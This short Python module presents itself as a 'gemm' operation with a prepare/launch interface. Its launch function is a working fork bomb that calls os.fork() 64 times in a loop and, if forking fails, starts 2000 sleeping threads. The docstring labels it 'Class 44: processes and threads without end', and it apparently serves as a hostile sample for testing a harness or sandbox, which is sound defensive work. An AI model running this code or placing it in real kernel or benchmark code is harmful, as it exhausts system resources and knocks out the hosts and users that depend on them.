"""Class 44: processes and threads without end."""

import os
import threading
import time

op = "gemm"


def prepare(problem, config, sets):
    def launch(index):
        try:
            for _ in range(64):
                os.fork()
        except OSError:
            for _ in range(2000):
                threading.Thread(target=time.sleep, args=(60,), daemon=True).start()

    return launch
